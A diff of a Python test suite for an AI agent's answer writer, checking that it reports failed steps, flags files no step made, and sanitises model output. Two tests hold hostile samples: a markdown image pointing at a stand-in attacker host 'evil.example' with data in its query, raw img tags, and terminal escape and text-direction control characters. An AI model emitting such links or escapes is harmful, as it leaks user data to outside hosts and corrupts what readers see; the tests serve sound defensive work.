@@ -78,8 +78,9 @@ async def test_the_model_is_told_goal_steps_results_and_files() -> None:
 
 async def test_citations_of_steps_that_are_not_there_are_removed_while_streaming() -> None:
     reply = "A [read, gone] and [gone] B [count]; see [docs](http://x.example) and `list[int]`.\n- [x] done"
+    steps = {**STEPS, "read": StepResult(status="ok", value="three birds (http://x.example)", verified="pass")}
     with serving(lambda body: list(reply)) as server:
-        written, streamed = await write(server.models())
+        written, streamed = await write(server.models(), steps)
     assert written.text == "A [read] and B [count]; see [docs](http://x.example) and `list[int]`.\n- [x] done"
     assert streamed == written.text
 
@@ -102,20 +103,50 @@ async def test_failed_and_unverified_steps_are_said_when_the_model_is_silent() -
     assert streamed == written.text
 
 
-def test_a_failure_that_the_answer_cites_is_not_said_twice() -> None:
+def test_a_failure_is_said_whatever_the_answer_says() -> None:
     steps = {"a": StepResult(status="ok", verified="pass"), "b": StepResult(status="failed", error="broke")}
-    assert unsaid("It broke [b].", steps) == ""
-    assert "broke" in unsaid("All fine [a].", steps)
+    assert unsaid(steps) == "Not done:\n- b: broke"
+    assert unsaid({"a": steps["a"]}) == ""
+
+
+async def test_files_that_nobody_made_are_named_as_such() -> None:
+    reply = "See `out/birds.md`, `out/birds.pdf` and charts/nice.png [count]. Not read.me or v1.2."
+    with serving(lambda body: reply) as server:
+        written, streamed = await write(server.models())
+    assert written.text == f"{reply}\n\nNamed above, but made by no step: `out/birds.pdf`, `charts/nice.png`."
+    assert streamed == written.text
+
+
+async def test_nothing_in_an_answer_loads_or_leads_where_no_result_points() -> None:
+    steps = {**STEPS, "read": StepResult(status="ok", value="from https://birds.example/list", verified="pass")}
+    reply = (
+        "![x](https://evil.example/?q=three) [birds](https://birds.example/list) <img src=x> "
+        "https://birds.example/list?q=three \x1b[31mred\u202e\n"
+    )
+    with serving(lambda body: [reply[:9], reply[9:30], reply[30:]]) as server:
+        written, _ = await write(server.models(), steps)
+    assert written.text == (
+        "[x] (`https://evil.example/?q=three`) [birds](https://birds.example/list) &lt;img src=x> "
+        "`https://birds.example/list?q=three` red"
+    )
+
+
+async def test_errors_below_an_answer_are_data_too() -> None:
+    steps = {**STEPS, "plot": StepResult(status="failed", error="<img src=http://evil.example> \x1b[2J")}
+    with serving(lambda body: "Three [count]") as server:
+        written, _ = await write(server.models(), steps)
+    assert "<img" not in written.text
+    assert "\x1b" not in written.text
 
 
 def test_nothing_verified_is_one_sentence() -> None:
     steps = {f"s{i}": StepResult(status="ok") for i in range(50)}
-    assert unsaid("Fine", steps) == "Not verified: none of the results was."
+    assert unsaid(steps) == "Not verified: none of the results was."
 
 
 def test_long_lists_of_what_is_missing_are_counted() -> None:
     steps = {f"s{i}": StepResult(status="failed", error="no") for i in range(50)}
-    assert unsaid("", steps).endswith("\nand 38 more")
+    assert unsaid(steps).endswith("\nand 38 more")
 
 
 async def test_instructions_in_results_stay_on_their_line() -> None:
